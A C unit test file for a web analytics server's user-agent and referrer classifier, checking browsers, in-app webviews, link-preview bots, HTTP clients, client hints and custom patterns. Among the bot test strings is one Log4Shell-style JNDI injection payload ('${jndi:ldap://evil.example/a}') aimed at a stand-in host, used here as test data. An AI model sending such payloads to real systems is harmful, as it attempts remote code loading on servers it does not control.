/* What user agents say: those that people use every day, apps, previews, machines, client hints;
 * the operator's own list; referrers. Unlike the corpora these are written by hand. */
#include "server/visitor/agent.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "server/clicks/event.h"
#include "server/visitor/classes.h"
#include "server/visitor/referrer.h"

static struct lists *lists;

static struct text as_text(const char *string)
{
    return (struct text){string, strlen(string)};
}

static struct agent read_agent(const char *user_agent)
{
    struct agent agent;

    agent_read(lists, &(struct agent_request){.user_agent = as_text(user_agent)}, &agent);
    return agent;
}

static void assert_agent(const char *ua, uint8_t device, uint8_t os, const char *browser,
                         const char *app)
{
    struct agent agent = read_agent(ua);

    if (agent.verdict != VERDICT_HUMAN)
        fail_msg("%s: %s", agent.rule, ua);
    if (agent.device != device || agent.os != os ||
        strcmp(browser_name(agent.browser), browser) != 0 || strcmp(app_name(agent.app), app) != 0)
        fail_msg("%s, %s, %s, %s: %s", device_name(agent.device), os_name(agent.os),
                 browser_name(agent.browser), app_name(agent.app), ua);
}

#define KHTML     "(KHTML, like Gecko)"
#define WEBKIT    "AppleWebKit/537.36 " KHTML
#define IOS       "AppleWebKit/605.1.15 " KHTML
#define IPHONE    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) " IOS
#define ANDROID   "Mozilla/5.0 (Linux; Android 10; K) " WEBKIT
#define WEBVIEW   "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A; wv) " WEBKIT " Version/4.0"
#define WINDOWS   "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " WEBKIT
#define MACINTOSH "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) "

static void everyday_browsers(void **state)
{
    (void)state;
    assert_agent(WINDOWS " Chrome/131.0.0.0 Safari/537.36", DEVICE_DESKTOP, OS_WINDOWS, "Chrome",
                 "unknown");
    assert_agent(WINDOWS " Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", DEVICE_DESKTOP,
                 OS_WINDOWS, "Edge", "unknown");
    assert_agent(WINDOWS " Chrome/131.0.0.0 Safari/537.36 OPR/115.0.0.0", DEVICE_DESKTOP,
                 OS_WINDOWS, "Opera", "unknown");
    assert_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
                 DEVICE_DESKTOP, OS_WINDOWS, "Firefox", "unknown");
    assert_agent(MACINTOSH IOS " Version/18.1 Safari/605.1.15", DEVICE_DESKTOP, OS_MACOS, "Safari",
                 "unknown");
    assert_agent(MACINTOSH WEBKIT " Chrome/131.0.0.0 Safari/537.36", DEVICE_DESKTOP, OS_MACOS,
                 "Chrome", "unknown");
    assert_agent("Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
                 DEVICE_DESKTOP, OS_LINUX, "Firefox", "unknown");
    assert_agent("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) " WEBKIT
                 " Chrome/131.0.0.0 Safari/537.36",
                 DEVICE_DESKTOP, OS_CHROME, "Chrome", "unknown");
    assert_agent(IPHONE " Version/18.1 Mobile/15E148 Safari/604.1", DEVICE_SMARTPHONE, OS_IOS,
                 "Safari", "unknown");
    assert_agent(IPHONE " CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1", DEVICE_SMARTPHONE,
                 OS_IOS, "Chrome", "unknown");
    assert_agent("Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) " IOS
                 " Version/17.6 Mobile/15E148 Safari/604.1",
                 DEVICE_TABLET, OS_IOS, "Safari", "unknown");
    assert_agent(ANDROID " Chrome/131.0.0.0 Mobile Safari/537.36", DEVICE_SMARTPHONE, OS_ANDROID,
                 "Chrome", "unknown");
    assert_agent(ANDROID " Chrome/131.0.0.0 Safari/537.36", DEVICE_TABLET, OS_ANDROID, "Chrome",
                 "unknown");
    assert_agent(ANDROID " SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36",
                 DEVICE_SMARTPHONE, OS_ANDROID, "Samsung Internet", "unknown");
    assert_agent("Mozilla/5.0 (Android 14; Mobile; rv:132.0) Gecko/132.0 Firefox/132.0",
                 DEVICE_SMARTPHONE, OS_ANDROID, "Firefox", "unknown");
}

static void other_devices(void **state)
{
    (void)state;
    assert_agent("Mozilla/5.0 (PlayStation 5 3.21) " IOS " Version/15.4 Safari/605.1.15",
                 DEVICE_CONSOLE, OS_PLAYSTATION, "Safari", "unknown");
    assert_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) " WEBKIT
                 " Chrome/130.0.0.0 Safari/537.36 Edge/44.18363.8131",
                 DEVICE_CONSOLE, OS_WINDOWS, "Edge", "unknown");
    assert_agent("Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) " WEBKIT
                 " 94.0.4606.31/7.0 TV Safari/537.36",
                 DEVICE_TV, OS_TIZEN, "Safari", "unknown");
    assert_agent("Mozilla/5.0 (Linux; Android 9; AFTKA Build/PS7633) " WEBKIT
                 " Silk/118.2.1 like Chrome/118.0.5993.155 Safari/537.36",
                 DEVICE_TV, OS_ANDROID, "Silk", "unknown");
    assert_agent("Mozilla/5.0 (X11; GNU/Linux) " WEBKIT
                 " Chromium/79.0.3945.130 Chrome/79.0.3945.130 Safari/537.36 Tesla/2024.38.7",
                 DEVICE_CAR, OS_LINUX, "Chromium", "unknown");
    assert_agent("Mozilla/5.0 (Linux; Android 12; SM-X906B) " WEBKIT
                 " Chrome/131.0.0.0 Safari/537.36",
                 DEVICE_TABLET, OS_ANDROID, "Chrome", "unknown");
    assert_agent("Mozilla/5.0 (Mobile; Nokia 8110 4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
                 DEVICE_SMARTPHONE, OS_KAIOS, "KaiOS Browser", "unknown");
}

static void browsers_inside_apps(void **state)
{
    static const char *const apps[][2] = {
        {"Instagram", IPHONE " Mobile/22B83 Instagram 358.0.0.37.85 (iPhone16,1; iOS 18_1)"},
        {"Instagram", WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 Instagram 358.0.0.51.97"},
        {"TikTok",
         IPHONE " Mobile/15E148 musical_ly_37.0.0 JsSdk/2.0 NetType/WIFI BytedanceWebview"},
        {"TikTok", WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 trill_370204 ByteLocale/de"},
        {"Facebook", IPHONE " Mobile/22B83 [FBAN/FBIOS;FBAV/488.0.0;FBDV/iPhone16,1;FBID/phone]"},
        {"Facebook", WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/489.0.0;]"},
        {"Messenger",
         IPHONE " Mobile/22B83 [FBAN/MessengerForiOS;FBAV/480.0.0.40;FBDV/iPhone15,2]"},
        {"Threads", WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 Barcelona 358.0.0.51 Android"},
        {"Snapchat", IPHONE " Version/18.1 Mobile/22B83 Snapchat/13.15.0.31 (like Safari/8619)"},
        {"X", IPHONE " Mobile/22B83 Twitter for iPhone/10.70"},
        {"Pinterest", IPHONE " Mobile/22B83 [Pinterest/iOS]"},
        {"LinkedIn", IPHONE " Mobile/22B83 [LinkedInApp]/9.30.1"},
        {"WeChat", WEBVIEW " Chrome/126.0.0.0 XWEB/1 Mobile Safari/537.36 MicroMessenger/8.0.50"},
        {"LINE", IPHONE " Mobile/22B83 Safari Line/14.19.0"},
        {"KakaoTalk", WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 KAKAOTALK/25.9.0 (INAPP)"},
        {"Telegram", ANDROID " Chrome/130.0.0.0 Mobile Safari/537.36 Telegram-Android/11.4.2"},
        {"WhatsApp", WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 WhatsApp/2.24.23.78"},
        {"Weibo", IPHONE " Mobile/22B83 Weibo (iPhone16,1__weibo__14.11.0__iphone__os18.1)"},
        {"Douyin", WEBVIEW " Chrome/118.0.0.0 Mobile Safari/537.36 aweme_320000 JsSdk/1.0"},
        {"Bilibili", IPHONE " Mobile/22B83 BiliApp/81200100 mobi_app/iphone bilibili"},
        {"Xiaohongshu", WEBVIEW " Chrome/118.0.0.0 Mobile Safari/537.36 xiaohongshu"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof apps / sizeof apps[0]; i++) {
        struct agent agent = read_agent(apps[i][1]);

        if (agent.verdict != VERDICT_HUMAN || strcmp(app_name(agent.app), apps[i][0]) != 0 ||
            agent.device != DEVICE_SMARTPHONE)
            fail_msg("%s %s %s: %s", app_name(agent.app), verdict_name(agent.verdict),
                     device_name(agent.device), apps[i][1]);
    }
}

static void assert_all(const char *const *agents, enum verdict verdict)
{
    for (; *agents; agents++) {
        struct agent agent = read_agent(*agents);

        if (agent.verdict != verdict)
            fail_msg("%s (%s): %s", verdict_name(agent.verdict), agent.rule, *agents);
        if (!agent.rule[0])
            fail_msg("no rule: %s", *agents);
        assert_int_equal(agent.device, DEVICE_BOT);
    }
}

static void link_previews(void **state)
{
    static const char *const agents[] = {
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Twitterbot/1.0",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
        "TelegramBot (like TwitterBot)",
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
        "WhatsApp/2.24.23.78 A",
        /* what Messages on an iPhone sends */
        MACINTOSH "AppleWebKit/601.2.4 " KHTML
                  " Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5",
        "http.rb/5.1.1 (Mastodon/4.2.1; +https://mastodon.social/)",
        "Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)",
        "Synapse (bot; +https://github.com/matrix-org/synapse)",
        NULL,
    };

    (void)state;
    assert_all(agents, VERDICT_PREVIEW);
}

static void machines(void **state)
{
    static const char *const agents[] = {
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; UnheardOfBot/1.0)",
        "Mozilla/5.0 (compatible; some-crawler; +https://example.com/crawler)",
        "curl/8.5.0",
        "Wget/1.21.3",
        "python-requests/2.31.0",
        "Go-http-client/2.0",
        "okhttp/4.12.0",
        "axios/1.7.2",
        "node-fetch",
        "PostmanRuntime/7.42.0",
        "Java/17.0.8",
        "Apache-HttpClient/4.5.13 (Java/11.0.20)",
        "Mozilla/5.0 (X11; Linux x86_64) " WEBKIT " HeadlessChrome/131.0.0.0 Safari/537.36",
        "somethingelse/1.0",
        "${jndi:ldap://evil.example/a}",
        "Mozilla/5.0",
        NULL,
    };

    (void)state;
    assert_all(agents, VERDICT_BOT);
}

/* Names of phones that look like machines. */
static void people_who_look_like_machines(void **state)
{
    static const char *const agents[] = {
        "Mozilla/5.0 (Linux; Android 13; CUBOT KINGKONG 7) " WEBKIT
        " Chrome/131.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 9; Land Rover Discovery) " WEBKIT
        " Chrome/99.0.0.0 Mobile Safari/537.36",
        WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 SogouMSE,SogouMobileBrowser/6.1.5",
        WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36 Viber/22.0",
        "Mozilla/5.0 (Linux; Android 15; Pixel 8 Build/AP3A.240617.008; wv) " WEBKIT
        " Version/4.0 Chrome/130.0.0.0 Mobile Safari/537.36",
    };

    (void)state;
    for (size_t i = 0; i < sizeof agents / sizeof agents[0]; i++) {
        struct agent agent = read_agent(agents[i]);

        if (agent.verdict != VERDICT_HUMAN)
            fail_msg("%s: %s", agent.rule, agents[i]);
    }
}

static void nothing_is_invalid(void **state)
{
    (void)state;
    assert_int_equal(read_agent("").verdict, VERDICT_INVALID);
    assert_int_equal(read_agent("  \t ").verdict, VERDICT_INVALID);
    assert_string_equal(read_agent("").rule, "no user agent");
}

static struct agent read_hints(const char *ua, const char *brands, const char *mobile,
                               const char *platform, const char *model)
{
    struct agent agent;

    agent_read(lists,
               &(struct agent_request){.user_agent = as_text(ua),
                                       .brands = as_text(brands),
                                       .mobile = as_text(mobile),
                                       .platform = as_text(platform),
                                       .model = as_text(model)},
               &agent);
    return agent;
}

static void client_hints(void **state)
{
    const char *chrome = ANDROID " Chrome/131.0.0.0 Safari/537.36";
    const char *windows = WINDOWS " Chrome/131.0.0.0 Safari/537.36";
    const char *brave = "\"Brave\";v=\"131\", \"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"";
    struct agent agent;

    (void)state;
    agent = read_hints(chrome, "", "?1", "\"Android\"", "");
    assert_int_equal(agent.device, DEVICE_SMARTPHONE);
    agent = read_hints(chrome, "", "?0", "\"Android\"", "\"SM-S918B\"");
    assert_int_equal(agent.device, DEVICE_SMARTPHONE);
    agent = read_hints(chrome, "", "?0", "\"Android\"", "\"SM-X900\"");
    assert_int_equal(agent.device, DEVICE_TABLET);
    agent = read_hints(chrome, "", "?0", "\"Android\"", "\"BRAVIA 4K\"");
    assert_int_equal(agent.device, DEVICE_TV);
    agent = read_hints(windows, brave, "?0", "\"Windows\"", "");
    assert_string_equal(browser_name(agent.browser), "Brave");
    assert_int_equal(agent.verdict, VERDICT_HUMAN);
    agent = read_hints(windows, "\"HeadlessChrome\";v=\"131\"", "?0", "\"Windows\"", "");
    assert_int_equal(agent.verdict, VERDICT_BOT);
    agent = read_hints(windows, brave, "?0", "\"Linux\"", "");
    assert_int_equal(agent.verdict, VERDICT_INVALID);
    agent = read_hints(windows, "broken\"", "x", "Linux", "\"");
    assert_int_equal(agent.verdict, VERDICT_HUMAN);
}

static void android_apps_name_themselves(void **state)
{
    struct agent agent;

    (void)state;
    agent_read(lists,
               &(struct agent_request){.user_agent =
                                           TEXT(WEBVIEW " Chrome/130.0.0.0 Mobile Safari/537.36"),
                                       .requested_with = TEXT("com.zhiliaoapp.musically")},
               &agent);
    assert_string_equal(app_name(agent.app), "TikTok");
    assert_int_equal(agent.verdict, VERDICT_HUMAN);
}

static struct lists *open_own(const char *json, struct error *error)
{
    char path[] = "/tmp/kudos-patterns-XXXXXX";
    int fd = mkstemp(path);
    struct lists *own;

    assert_true(fd >= 0 && write(fd, json, strlen(json)) == (ssize_t)strlen(json));
    close(fd);
    own = lists_open(path, error);
    unlink(path);
    return own;
}

static void own_patterns(void **state)
{
    struct lists *builtin = lists, *own;
    struct error error;

    (void)state;
    own = open_own("[{\"pattern\": \"OurMonitor\\\\/[0-9]\"},"
                   " {\"pattern\": \"CardMaker\", \"tags\": [\"social-preview\"]}]",
                   &error);
    assert_non_null(own);
    lists = own;
    assert_int_equal(read_agent(WINDOWS " OurMonitor/2").verdict, VERDICT_BOT);
    assert_string_equal(read_agent(WINDOWS " OurMonitor/2").rule, "own OurMonitor/[0-9]");
    assert_int_equal(read_agent(WINDOWS " CardMaker").verdict, VERDICT_PREVIEW);
    lists = builtin;
    lists_close(own);
    assert_null(open_own("[{\"pattern\": \"fine\"}, {\"pattern\": \"(\"}]", &error));
    assert_non_null(strstr(error.text, "entry 2"));
    assert_null(open_own("[{\"patern\": \"x\"}]", &error));
    assert_non_null(strstr(error.text, "entry 1"));
    assert_null(open_own("{}", &error));
    assert_null(open_own("[", &error));
    assert_null(lists_open("/nonexistent/file", &error));
    assert_non_null(strstr(error.text, "bot_patterns"));
}

static void assert_origin(const struct referrers *referrers, const char *url, uint8_t medium,
                          const char *platform)
{
    char host[EVENT_REFERRER_MAX];
    struct origin origin = referrer_origin(referrers, referrer_host(as_text(url), host));

    if (origin.medium != medium || strcmp(platform_name(origin.platform), platform) != 0)
        fail_msg("%s, %s: %s", medium_name(origin.medium), platform_name(origin.platform), url);
}

static void referrers_have_a_medium(void **state)
{
    struct error error;
    struct referrers *referrers = referrers_open(&error);

    (void)state;
    assert_non_null(referrers);
    assert_origin(referrers, "https://l.instagram.com/", MEDIUM_SOCIAL, "Instagram");
    assert_origin(referrers, "https://www.google.co.uk/", MEDIUM_SEARCH, "Google");
    assert_origin(referrers, "https://www.google.com.br/", MEDIUM_SEARCH, "Google");
    assert_origin(referrers, "https://google.evil/", MEDIUM_OTHER, "unknown");
    assert_origin(referrers, "https://notgoogle.com/", MEDIUM_OTHER, "unknown");
    assert_origin(referrers, "https://mail.google.com/mail/u/0/", MEDIUM_EMAIL, "Gmail");
    assert_origin(referrers, "https://gemini.google.com/", MEDIUM_CHATBOT, "Gemini");
    assert_origin(referrers, "https://t.co/abc", MEDIUM_SOCIAL, "X");
    assert_origin(referrers, "https://atlassian.co/", MEDIUM_OTHER, "unknown");
    assert_origin(referrers, "android-app://com.google.android.gm/", MEDIUM_EMAIL, "Gmail");
    assert_origin(referrers, "https://webmail.example.org/", MEDIUM_EMAIL, "unknown");
    assert_origin(referrers, "https://mailbox.example/", MEDIUM_OTHER, "unknown");
    assert_origin(referrers, "https://chatgpt.com/", MEDIUM_CHATBOT, "ChatGPT");
    assert_origin(referrers, "https://googleads.g.doubleclick.net/x", MEDIUM_PAID, "Google Ads");
    assert_origin(referrers, "https://blog.example.com/post", MEDIUM_OTHER, "unknown");
    assert_origin(referrers, "https://com/", MEDIUM_OTHER, "unknown");
    assert_int_equal(referrer_medium_of(referrers, platform_number(TEXT("TikTok"))), MEDIUM_SOCIAL);
    referrers_close(referrers);
}

static int open_lists(void **state)
{
    struct error error;

    (void)state;
    lists = lists_open("", &error);
    if (!lists)
        fprintf(stderr, "%s\n", error.text);
    return lists ? 0 : -1;
}

static int close_lists(void **state)
{
    (void)state;
    lists_close(lists);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(everyday_browsers),
        cmocka_unit_test(other_devices),
        cmocka_unit_test(browsers_inside_apps),
        cmocka_unit_test(link_previews),
        cmocka_unit_test(machines),
        cmocka_unit_test(people_who_look_like_machines),
        cmocka_unit_test(nothing_is_invalid),
        cmocka_unit_test(client_hints),
        cmocka_unit_test(android_apps_name_themselves),
        cmocka_unit_test(own_patterns),
        cmocka_unit_test(referrers_have_a_medium),
    };

    return cmocka_run_group_tests(tests, open_lists, close_lists);
}
